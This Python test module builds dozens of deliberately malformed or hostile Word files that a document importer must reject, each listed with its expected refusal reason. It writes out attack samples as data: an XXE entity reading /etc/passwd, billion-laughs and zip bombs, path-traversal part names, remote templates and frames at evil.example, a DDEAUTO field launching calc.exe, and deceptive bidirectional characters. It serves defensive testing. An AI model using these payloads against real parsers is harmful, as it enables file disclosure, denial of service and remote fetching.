"""Sixty Word files and more that must be refused: each by name, with why it is refused.

All are made from an honest export, so that nothing else is wrong with them.
"""

from __future__ import annotations

import base64
import io
import json
import re
import struct
import zipfile
from collections.abc import Callable, Mapping

from tests.codec.word import made

from dipoli.forum.text_views import View

Parts = dict[str, bytes]
MAIN = "word/document.xml"
TYPES, RELS = "[Content_Types].xml", "word/_rels/document.xml.rels"
BASE, SETTINGS = "customXml/item1.xml", "word/settings.xml"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

HONEST = made.exported(made.desk().forum, "T1", View.BRACKETED)


def unpacked(data: bytes = HONEST) -> Parts:
    """The parts of a file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A package of parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def _with(**more: bytes) -> bytes:
    """The honest file with other parts; ``__`` stands for a slash, and ``_DOT_`` for a dot."""
    parts = unpacked()
    for name, part in more.items():
        parts[name.replace("__", "/").replace("_DOT_", ".")] = part
    return packed(parts)


def _named(name: str, part: bytes = b"<a/>") -> bytes:
    return packed({**unpacked(), name: part})


def _in(name: str, old: bytes, new: bytes) -> bytes:
    """The honest file with something replaced in one part."""
    parts = unpacked()
    assert old in parts[name], (name, old)
    parts[name] = parts[name].replace(old, new, 1)
    return packed(parts)


def _body(inside: bytes) -> bytes:
    """The honest file with something at the end of its text."""
    return _in(MAIN, b"<w:sectPr>", inside + b"<w:sectPr>")


def _head(before: bytes, inside: bytes = b"") -> bytes:
    """The honest file with something before the root of its text, and in its text."""
    parts = unpacked()
    head, tail = parts[MAIN].split(b"?>", 1)
    parts[MAIN] = head + b"?>" + before + tail.replace(b"<w:sectPr>", inside + b"<w:sectPr>")
    return packed(parts)


def _relation(sort: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    one = f'<Relationship Id="rId99" Type="{_REL}{sort}" Target="{target}"{mode}/>'
    return _in(RELS, b"</Relationships>", one.encode() + b"</Relationships>")


def _field(*parts: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in parts)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>'
                  for one in ("begin", "end"))  # fmt: skip
    return _body(f"<w:p>{begin}{runs}{end}</w:p>".encode())


def _inserted(words: str) -> bytes:
    run = f'<w:ins w:id="1" w:author="Alderan"><w:r><w:t>{words}</w:t></w:r></w:ins>'
    return _body(f"<w:p>{run}</w:p>".encode())


def _base(change: Callable[[dict[str, object]], object]) -> bytes:
    """The honest file with what it says of the text it was made from altered."""
    parts = unpacked()
    found = re.search(rb">([A-Za-z0-9+/=]+)</export>", parts[BASE])
    assert found is not None
    held = json.loads(base64.b64decode(found[1]))
    change(held)
    told = base64.b64encode(json.dumps(held).encode())
    parts[BASE] = parts[BASE].replace(found[1], told)
    return packed(parts)


def _bomb() -> bytes:
    return _in(MAIN, b"<w:sectPr>", b"<w:p/>" + b" " * 40_000_000 + b"<w:sectPr>")


def _lying() -> bytes:
    """A part that says that it is small and is not."""
    data = bytearray(_named("word/media/a.png", b"\x89PNG\r\n\x1a\n" + bytes(3_000_000)))
    at = data.rfind(b"PK\1\2", 0, data.rfind(b"PK\5\6"))
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def _twice(name: str) -> bytes:
    """The honest file with one more part of that name, whatever the library thinks of it."""
    meanwhile = "x" * len(name)
    return packed({**unpacked(), meanwhile: b"<a/>"}).replace(meanwhile.encode(), name.encode())


def _locked() -> bytes:
    data = bytearray(HONEST)
    at = 0
    while (at := data.find(b"PK\1\2", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def _first(held: dict[str, object]) -> dict[str, object]:
    slots = held["slots"]
    assert isinstance(slots, list)
    first: dict[str, object] = slots[0]
    return first


_DAMAGED, _AROUND = "damaged", "is damaged, or something stands around it"
_RUNS, _FETCHES = "runs or is carried", "fetches something from elsewhere"
_PART, _UNREAD = "a part that is not let in", "cannot be read"
_OWN, _MUCH = "definitions of its own", "unpacks into too much"
_STRETCHED, _UNSEEN = "nested too deeply, or is too long", "A sign that nobody sees"
_NO_WORD = "is no Word file"
LONG = b"".join(b"%d" % n for n in range(40_000))
LAUGHS = b'<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
XXE = b'<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

FILES: Mapping[str, tuple[bytes, str]] = {
    # what it is
    "nothing": (b"", _NO_WORD),
    "plain text": (b"The parties shall reopen the bridge.", _NO_WORD),
    "html called docx": (b"<html><script>alert(1)</script></html>", _NO_WORD),
    "rtf with an object": (b"{\\rtf1{\\object\\objocx}}", "is an RTF file"),
    "pdf": (b"%PDF-1.7\n%%EOF", "is a PDF file"),
    "locked with a password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "is locked with"),
    "program of windows": (b"MZ" + bytes(100), _NO_WORD),
    "odt": (packed({"mimetype": b"application/vnd.oasis.opendocument.text"}), "is an ODT file"),
    "spreadsheet": (packed({TYPES: b"<Types/>", "xl/workbook.xml": b"<a/>"}), _NO_WORD),
    "zip without a text": (packed({TYPES: unpacked()[TYPES]}), _NO_WORD),
    "too large": (b"PK\3\4" + bytes(10_000_001), "and the most is 10"),
    # the package
    "cut short": (HONEST[:-30], _AROUND),
    "cut in half": (HONEST[: len(HONEST) // 2], _AROUND),
    "a byte turned": (HONEST[:2_000] + bytes([HONEST[2_000] ^ 255]) + HONEST[2_001:], _DAMAGED),
    "polyglot: script before": (b"#!/bin/sh\n" + HONEST, _NO_WORD),
    "polyglot: html behind": (HONEST + b"<script>alert(1)</script>", _AROUND),
    "polyglot: zip behind": (HONEST + packed({"a.xml": b"<a/>"}), _AROUND),
    "polyglot: remark of the package": (HONEST[:-2] + b"\x05\0<b/>x", _AROUND),
    "parts locked": (_locked(), _DAMAGED + "|is locked"),
    "bomb": (_bomb(), _MUCH),
    "bomb that lies about its size": (_lying(), _DAMAGED + "|" + _MUCH),
    "packed in a strange way": (packed(unpacked(), zipfile.ZIP_LZMA), "packed in a way"),
    "zip in the package": (_named("word/inner.zip", HONEST), _PART),
    "zip as a picture": (_named("word/media/a.png", HONEST), "neither PNG nor JPEG"),
    "the text twice": (_twice(MAIN), _DAMAGED),
    "the text twice, in capitals": (_twice("WORD/Document.xml"), _DAMAGED),
    "path above the folder": (_named("../evil.xml"), "a name that is not let in"),
    "path from the root": (_named("/etc/cron.d/evil"), "a name that is not let in"),
    "path of windows": (_named("word\\..\\evil.xml"), "a name that is not let in"),
    "path in the middle": (_named("word/a/../../evil.xml"), "a name that is not let in"),
    "name with a turning sign": (_named("word/\u202elmx.xml"), "a name that is not let in"),
    "thousands of parts": (
        packed({**unpacked(), **{f"word/media/{n}.png": b"" for n in range(2_001)}}), _DAMAGED),
    # what the package says of itself
    "wrong content type": (_in(TYPES, b"document.main+xml", b"template.main+xml"), _NO_WORD),
    "text called macros": (
        _in(TYPES, b"openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"ms-word.document.macroEnabled.main+xml"), "has macros in it"),
    "content type twice": (
        _in(TYPES, b"</Types>", b'<Override PartName="/word/document.xml" '
            b'ContentType="text/html"/></Types>'), "does not say which of its parts"),
    "another part is the text": (
        _in("_rels/.rels", b'Target="word/document.xml"', b'Target="word/styles.xml"'),
        "does not say which of its parts"),
    # what runs, is carried, or is fetched
    "macros": (_named("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "has macros in it"),
    "macros by another name": (_named("word/program.bin", b"\xd0\xcf\x11\xe0"), _PART),
    "data of macros": (_named("word/vbaData.xml"), _PART),
    "embedded object": (_named("word/embeddings/oleObject1.bin", b"\xd0\xcf"), _PART),
    "embedded control": (_named("word/activeX/activeX1.xml"), _PART),
    "object in the text": (_body(b"<w:p><w:r><w:object/></w:r></w:p>"), _RUNS),
    "other text carried along": (_body(b'<w:altChunk r:id="rId99"/>'), _RUNS),
    "subdocument": (_body(b'<w:subDoc r:id="rId99"/>'), _RUNS),
    "template from elsewhere": (_relation("attachedTemplate", "https://evil.example/a.dotm"),
                                _FETCHES),
    "template named in the settings": (
        _in(SETTINGS, b"<w:trackRevisions/>", b'<w:attachedTemplate w:id="rId1"/>'), _RUNS),
    "picture from elsewhere": (_relation("image", "http://evil.example/p.png"), _FETCHES),
    "frame from elsewhere": (_relation("frame", "https://evil.example/"), _FETCHES),
    "share of windows": (_relation("hyperlink", "file://evil/share"), _FETCHES),
    "link that is a script": (_relation("hyperlink", "javascript:alert(1)"), _FETCHES),
    "field that runs": (_field(" DDEAUTO c:\\\\windows\\\\calc.exe "), _FETCHES),
    "field in pieces": (_field(" INCLU", "DETEXT ", '"//evil/share" '), _FETCHES),
    "field of one element": (_body(b'<w:p><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:p>'),
                             _FETCHES),
    "button that runs a macro": (_field(" MACROBUTTON Run click "), _FETCHES),
    # the XML
    "entity from a file": (_head(XXE, b"<w:p><w:r><w:t>&e;</w:t></w:r></w:p>"), _OWN),
    "billion laughs": (_head(LAUGHS, b"<w:p><w:r><w:t>&b;</w:t></w:r></w:p>"), _OWN),
    "outer document type": (_head(b'<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">'), _OWN),
    "entity in the properties": (_with(docProps__custom_DOT_xml=XXE + b"<d>&e;</d>"), _OWN),
    "instruction to an editor": (_head(b'<?mso-application progid="Word.Document"?>'), _OWN),
    "deeply nested": (_body(b"<w:p>" + b"<w:r>" * 400 + b"</w:r>" * 400 + b"</w:p>"), _STRETCHED),
    "huge attribute": (_body(b'<w:p w:x="' + LONG + b'"/>'), _STRETCHED),
    "half a million elements": (_body(b"<w:p/>" * 500_000), _STRETCHED + "|" + _MUCH),
    "no end": (_in(MAIN, b"</w:document>", b""), _UNREAD),
    "two roots": (_in(MAIN, b"</w:document>", b"</w:document><a/>"), _UNREAD),
    "invalid UTF-8": (_body(b"<w:p><w:r><w:t>\xff\xfe</w:t></w:r></w:p>"), _UNREAD),
    "unknown letters": (_in(MAIN, b'encoding="UTF-8"', b'encoding="UTF-7"'), _UNREAD),
    "a sign that ends texts": (_body(b"<w:p><w:r><w:t>a\0b</w:t></w:r></w:p>"), _UNREAD),
    "same attribute twice": (_body(b'<w:p w:a="1" w:a="2"/>'), _UNREAD),
    # signs that deceive
    "words that turn round": (_inserted("pay \u202etnec rep 09\u202c"), _UNSEEN),
    "words that are isolated": (_inserted("\u2066a\u2069"), _UNSEEN),
    "words with nothing between": (_inserted("no\u200bt"), _UNSEEN),
    "words in signs of tags": (_inserted("a\U000e0041"), _UNSEEN),
    # what it says that it was made from
    "no word of where it is from": (
        packed({n: p for n, p in unpacked().items() if "customXml/item" not in n
                and n != "docProps/custom.xml"}), "does not say from which text"),
    "another circle": (_base(lambda held: held.update(origin="lake/other")), "in another circle"),
    "another text": (_base(lambda held: held.update(text="T9")), "which is not here"),
    "a version to come": (_base(lambda held: held.update(version=99)), "which is not here"),
    "another hash": (_base(lambda held: _first(held).update(hash="0" * 64)), "are not those of"),
    "a clause of another text": (_base(lambda held: _first(held).update(clause="T2-1")),
                                 "are not those of"),
    "a piece that is not there": (
        _base(lambda held: _first(held).update(pieces=[["words", "We give up.", 0, None]])),
        "are not those of"),
    "a number that is none": (_base(lambda held: held.update(version="1")), "is damaged"),
    "said twice": (_named("customXml/item2.xml", unpacked()[BASE]), "is damaged"),
    "no base64": (_with(customXml__item1_DOT_xml=b'<export xmlns="urn:dipoli:word:1">!</export>'),
                  "is damaged"),
}  # fmt: skip
